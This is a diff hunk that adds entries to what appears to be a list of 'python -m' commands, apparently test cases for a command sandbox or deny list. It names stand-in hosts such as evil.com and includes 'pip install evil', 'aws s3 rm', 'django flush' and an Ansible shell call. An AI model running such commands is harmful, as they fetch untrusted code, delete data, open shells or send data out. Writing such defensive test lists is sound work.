@@ -312,7 +312,9 @@ python -m cProfile -o ../x -m pytest --pastebin=all · python -m pdb x.py · pyt
 python -m runpy x · python -m asyncio · python -m ensurepip · python -m zipapp . -o ../x
 python -m tarfile -e x.tar ../y · python -m ftplib evil.com · python -m smtpd -n 0.0.0.0:25 · python -m nntplib
 python -m telnetlib evil 80 · python -m antigravity · python -m imaplib evil · python -m wsgiref.simple_server
-python -m xmlrpc.server · python -m idlelib · python -m turtledemo · python -m lib2to3 -w ..
+python -m pip._internal.cli.main install evil · python -m awscli.clidriver s3 rm s3://x · python -m twine.cli upload dist/x
+python -m IPython.terminal.ipapp -c x · python -m django.core.management flush · python3 -m ansible.cli.adhoc all -m shell
+python -m email.mime · python -m acme.deploy · python -m uvicorn.main app:x --host 0.0.0.0 · python -m xmlrpc.server · python -m idlelib · python -m turtledemo · python -m lib2to3 -w ..
 python -m webbrowser -t http://evil.com/?data · python -m urllib.request http://evil
 python -m sqlite3 ../x 'select 1' · python -m calendar · python -m compileall -d x .. · python -m py_compile ../x.py
 python -m venv --system-site-packages ../v · python -m virtualenv ../v · python -m http.cookies
